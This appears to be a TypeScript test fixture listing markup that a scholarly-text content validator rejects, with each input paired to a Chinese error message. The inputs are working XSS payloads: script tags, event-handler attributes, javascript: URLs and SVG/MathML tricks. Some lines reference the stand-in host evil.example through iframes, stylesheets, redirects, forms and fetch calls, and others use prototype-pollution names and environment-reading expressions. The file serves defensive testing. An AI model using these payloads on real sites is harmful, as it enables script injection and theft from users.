import { inText, type RefusedCase, type Row } from './hostile-content.ts';

const OTHER = '不能使用 <';
const EXPRESSION = '内容文件不能写 {表达式}';
const UNREADABLE = '写法有误，读不下去';
const ATTRIBUTE = '的属性只能写成 名称="文字"';

/** HTML, elements of others and foreign attributes. */
const ELEMENTS: readonly Row[] = [
  ['<script>alert(1)</script>', OTHER],
  ['<SCRIPT src="//evil.example/x.js" />', OTHER],
  ['<script type="module">{`import("//evil.example")`}</script>', OTHER],
  ['<iframe src="https://evil.example" />', OTHER],
  ['<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;" />', OTHER],
  ['<img src="x" onerror="alert(1)" />', OTHER],
  ['<img src=x onerror=alert(1)>', UNREADABLE],
  ['<svg onload="alert(1)" />', OTHER],
  ['<svg><script>alert(1)</script></svg>', OTHER],
  ['<svg><animate attributeName="href" values="javascript:alert(1)" /></svg>', OTHER],
  ['<svg:script>alert(1)</svg:script>', OTHER],
  ['<math><mtext><a href="javascript:alert(1)">甲</a></mtext></math>', OTHER],
  ['<style>*{`a`}</style>', OTHER],
  ['<link rel="stylesheet" href="https://evil.example/x.css" />', OTHER],
  ['<meta http-equiv="refresh" content="0;url=https://evil.example" />', OTHER],
  ['<base href="https://evil.example/" />', OTHER],
  ['<form action="https://evil.example"><button>甲</button></form>', OTHER],
  ['<object data="data:text/html,x" />', OTHER],
  ['<embed src="https://evil.example" />', OTHER],
  ['<template shadowrootmode="open">甲</template>', OTHER],
  ['<details open ontoggle="alert(1)">甲</details>', OTHER],
  ['<x-evil>甲</x-evil>', OTHER],
  ['<div style="position:fixed">甲</div>', OTHER],
  ['<a href="https://example.org">甲</a>', OTHER],
  ['<br />', OTHER],
  ['<>甲</>', OTHER],
  ['<!-- 注释 -->', UNREADABLE],
  ['<!DOCTYPE html>', UNREADABLE],
  ['<![CDATA[ 甲 ]]>', UNREADABLE],
  ['<?php echo 1 ?>', UNREADABLE],
  ['</script><script>alert(1)</script>', UNREADABLE],
  ['<Doubtful note="x">年底', UNREADABLE],
  // Names that a table of components might find on every object.
  ['<constructor />', OTHER],
  ['<__proto__ />', OTHER],
  ['<toString />', OTHER],
  ['<hasOwnProperty />', OTHER],
  ['<Supplied.constructor>甲</Supplied.constructor>', OTHER],
  ['<props.children />', OTHER],
  ['<supplied>甲</supplied>', OTHER],
  ['<Ｓupplied>甲</Ｓupplied>', OTHER],
  ['<Suррlied>甲</Suррlied>', OTHER],
  ['<Fragment set:html="甲" />', OTHER],
  ['<Content />', OTHER],
];

/** Attributes of the apparatus that are more than text. */
const ATTRIBUTES: readonly Row[] = [
  ['<Supplied note={process.env.HOME}>甲</Supplied>', ATTRIBUTE],
  ['<Supplied {...globalThis}>甲</Supplied>', ATTRIBUTE],
  ['<Supplied note>甲</Supplied>', ATTRIBUTE],
  ['<Supplied onclick="alert(1)">甲</Supplied>', '没有“onclick”属性'],
  ['<Supplied style="color:red">甲</Supplied>', '没有“style”属性'],
  ['<Supplied class="x" id="y">甲</Supplied>', '没有“class”属性'],
  ['<Supplied set:html="x">甲</Supplied>', '没有“set:html”属性'],
  ['<Supplied client:load="x">甲</Supplied>', '没有“client:load”属性'],
  ['<Supplied __proto__="x">甲</Supplied>', '没有“__proto__”属性'],
  ['<Supplied constructor="x">甲</Supplied>', '没有“constructor”属性'],
  ['<Supplied note="a" note="b">甲</Supplied>', '写了两次'],
  ['<Supplied><Supplied>甲</Supplied></Supplied>', '不能放在另一个校勘标记里面'],
  ['<Supplied>{1}</Supplied>', EXPRESSION],
  ['<Supplied></Supplied>', '里面须是一段文字'],
  ['<Lacuna captured="">甲</Lacuna>', '里面不能有文字'],
  ['<Noise captured="" note="甲" />', '“captured”属性不能为空'],
];

/** Code between braces, and modules. */
const CODE: readonly Row[] = [
  ['{process.env.HOME}', EXPRESSION],
  ['{globalThis.process.exit(1)}', EXPRESSION],
  ['{(() => { while (true) {} })()}', EXPRESSION],
  ['{import("node:fs")}', EXPRESSION],
  ['{`\u{41}`}', EXPRESSION],
  ['{props.children}', EXPRESSION],
  ['{/* 注释 */}', EXPRESSION],
  ['{}', EXPRESSION],
  ['{年底', UNREADABLE],
  ['{{年底}}', EXPRESSION],
  ['{await fetch("https://evil.example")}', EXPRESSION],
];

/** Markdown that makes more than paragraphs. */
const MARKDOWN: readonly Row[] = [
  ['![甲](https://evil.example/x.png)', '正文不能放图片'],
  ['![甲](javascript:alert(1))', '正文不能放图片'],
  ['![甲](data:image/svg+xml;base64,PHN2Zz4=)', '正文不能放图片'],
  ['`甲`', '正文不能写 `代码`'],
  ['甲  \n乙', '段内不能换行'],
  ['甲\\\n乙', '段内不能换行'],
  ['甲\n乙', '一段须写成一行'],
];

export const MARKUP: readonly RefusedCase[] = [
  ...[...ELEMENTS, ...ATTRIBUTES, ...CODE, ...MARKDOWN].map(inText),
];
